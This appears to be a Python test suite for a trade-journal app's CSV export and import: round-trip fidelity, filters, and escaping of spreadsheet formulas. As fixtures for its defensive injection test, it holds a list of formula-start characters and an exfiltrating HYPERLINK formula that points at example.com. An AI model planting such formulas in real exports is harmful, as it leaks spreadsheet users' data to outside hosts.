"""Export then import: GET /api/v1/trades/export read back with format=tradejournal into another
trader's journal reproduces every trade field for field (hypothesis over random journals)."""

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rest_framework.test import APIClient

from imports.apply import import_run
from imports.formats.tradejournal import COLUMNS
from imports.services import import_create
from journal.models import Account, Tag, Trade
from tests.factories import make_key, make_user

FIELDS = ("instrument", "side", "quantity", "entry_time", "entry_price", "exit_time", "exit_price", "commission",
          "pnl", "net_pnl", "stop_loss", "take_profit", "setup_type", "notes", "multiplier", "initial_risk")  # fmt: skip
START = datetime(2024, 1, 1, tzinfo=UTC)


def decimals(low: str, high: str, places: int = 8):
    return st.decimals(Decimal(low), Decimal(high), places=places, allow_nan=False, allow_infinity=False)


# What a spreadsheet would take for a formula (OWASP's list); text may also start with them after
# quotes, the spreadsheet's escape.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
any_text = st.text(st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=40)
starts = st.sampled_from([*FORMULA_STARTS, "'", "''", "'=", "'''-", "'x"])
text = any_text | st.tuples(starts, any_text).map("".join)
trades = st.fixed_dictionaries(
    {
        "instrument": st.sampled_from(["AAPL", "ESZ5", "MNQ MAR25", "BTC/USD", "EURUSD", "=1+2", "-ES", "@NQ", "+GC"]),
        "side": st.sampled_from(["long", "short"]),
        "quantity": decimals("0.00000001", "100000"),
        "entry_time": st.integers(0, 10**9).map(lambda us: START + timedelta(microseconds=us * 997)),
        "entry_price": decimals("0.00000001", "999999"),
        "hold": st.none() | st.integers(0, 10**8),
        "exit_price": decimals("0", "999999"),
        "commission": decimals("0", "1000"),
        "stop_loss": st.none() | decimals("0.01", "999999", 2),
        "take_profit": st.none() | decimals("0.01", "999999", 2),
        "initial_risk": st.none() | decimals("0.01", "99999", 2),
        "multiplier": st.sampled_from([Decimal(1), Decimal(5), Decimal(50), Decimal("0.1"), Decimal(100)]),
        "setup_type": text.map(lambda s: s[:64]),
        "notes": text,
        "account": st.sampled_from([
            None, ("Main", "U123", "USD"), ("Depot", None, "EUR"), ("Prop", "P-9", "GBP"), ("=Main", "-U1", "USD"),
            ("@Depot", "+49", "EUR"),
        ]),
        "tags": st.lists(st.sampled_from(["breakout", "A+", "news", "Late entry", "=x", "-y", "@z", "+w"]),
                         unique=True, max_size=3),
    }
)  # fmt: skip


def make_journal(user, rows: list[dict]) -> None:
    accounts = {}
    for row in rows:
        account = None
        if row["account"]:
            name, number, currency = row["account"]
            if name not in accounts:
                accounts[name] = Account.objects.create(user=user, name=name, external_id=number, currency=currency)
            account = accounts[name]
        exit_time = None if row["hold"] is None else row["entry_time"] + timedelta(microseconds=row["hold"])
        trade = Trade.objects.create(
            user=user, account=account, instrument=row["instrument"], side=row["side"], quantity=row["quantity"],
            entry_time=row["entry_time"], entry_price=row["entry_price"], exit_time=exit_time,
            exit_price=None if exit_time is None else row["exit_price"], commission=row["commission"],
            stop_loss=row["stop_loss"], take_profit=row["take_profit"], initial_risk=row["initial_risk"],
            multiplier=row["multiplier"], setup_type=row["setup_type"], notes=row["notes"],
        )  # fmt: skip
        for name in row["tags"]:
            trade.tags.add(Tag.objects.get_or_create(user=user, name=name)[0])


def journal(user) -> list[tuple]:
    rows = []
    for trade in Trade.objects.filter(user=user).select_related("account").prefetch_related("tags"):
        account = trade.account
        rows.append((
            *(getattr(trade, name) for name in FIELDS),
            (account.name, account.external_id, account.currency) if account else None,
            sorted(tag.name for tag in trade.tags.all()),
        ))  # fmt: skip
    return sorted(rows, key=repr)


def export(user) -> bytes:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {make_key(user)[1]}")
    r = client.get("/api/v1/trades/export")
    assert r.status_code == 200, r.content
    assert r["Content-Type"] == "text/csv; charset=utf-8"
    assert r["Content-Disposition"].startswith('attachment; filename="trades-')
    return b"".join(r.streaming_content)


@pytest.mark.django_db
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(trades, max_size=12))
def test_an_export_imported_into_another_journal_reproduces_every_trade(rows):
    author, reader = make_user(), make_user()
    make_journal(author, rows)
    data = export(author)
    imp = import_run(import_id=import_create(user=reader, data=data, filename="export.csv", enqueue=False).pk)
    assert imp.status == "succeeded", imp.errors
    assert (imp.format, imp.errors, imp.skipped) == ("tradejournal", [], [])
    assert journal(reader) == journal(author)
    # ... and the same file again changes nothing.
    again = import_run(import_id=import_create(user=reader, data=data, filename="export.csv", enqueue=False).pk)
    assert (again.executions_created, again.trades_created, again.trades_updated) == (0, 0, 0)


@pytest.mark.django_db
def test_the_export_has_our_columns_oldest_first_and_takes_the_list_filters(api, user):
    make_journal(user, [
        {**dict.fromkeys(("stop_loss", "take_profit", "initial_risk", "hold", "account")), "instrument": name,
         "side": "long", "quantity": Decimal(1), "entry_time": START + timedelta(days=day), "entry_price": Decimal(10),
         "exit_price": Decimal(0), "commission": Decimal(0), "multiplier": Decimal(1), "setup_type": "",
         "notes": "", "tags": []}
        for day, name in ((2, "MSFT"), (1, "AAPL"), (3, "AAPL"))
    ])  # fmt: skip
    rows = list(csv.reader(io.StringIO(b"".join(api.get("/api/v1/trades/export").streaming_content).decode())))
    assert tuple(rows[0]) == COLUMNS
    assert [(r[4], r[8][:10]) for r in rows[1:]] == [
        ("AAPL", "2024-01-02"),
        ("MSFT", "2024-01-03"),
        ("AAPL", "2024-01-04"),
    ]
    filtered = api.get("/api/v1/trades/export?instrument=aapl&from=2024-01-03")
    assert [r[4] for r in csv.reader(io.StringIO(b"".join(filtered.streaming_content).decode()))][1:] == ["AAPL"]
    bad = api.get("/api/v1/trades/export?side=sideways", HTTP_ACCEPT="text/csv")
    assert bad.status_code == 422 and bad["Content-Type"] == "application/json", bad.content


@pytest.mark.django_db
def test_no_text_in_an_export_runs_as_a_spreadsheet_formula_and_numbers_stay_numbers(api, user):
    formula = '=HYPERLINK("http://example.com/?"&A1,"x")'
    make_journal(user, [
        {"instrument": "@NQ", "side": "long", "quantity": Decimal(1), "entry_time": START, "entry_price": Decimal(10),
         "hold": 60, "exit_price": Decimal("7.5"), "commission": Decimal(0), "stop_loss": None, "take_profit": None,
         "initial_risk": None, "multiplier": Decimal(1), "setup_type": "+breakout", "notes": formula,
         "account": ("-Main", "=1+1", "USD"), "tags": ["=x", "@y"]},
        {"instrument": "AAPL", "side": "short", "quantity": Decimal(1), "entry_time": START, "entry_price": Decimal(10),
         "hold": None, "exit_price": Decimal(0), "commission": Decimal(0), "stop_loss": None, "take_profit": None,
         "initial_risk": None, "multiplier": Decimal(1), "setup_type": "\tsetup", "notes": "\r-1", "account": None,
         "tags": []},
    ])  # fmt: skip
    rows = [dict(zip(COLUMNS, row, strict=True)) for row in csv.reader(io.StringIO(export(user).decode()))][1:]
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS) or name in ("pnl", "net_pnl"), (name, cell)
    closed = next(row for row in rows if row["exit_time"])
    assert (closed["notes"], closed["instrument"], closed["tags"]) == ("'" + formula, "'@NQ", "'=x,@y")
    assert (closed["pnl"], closed["net_pnl"]) == ("-2.5", "-2.5")
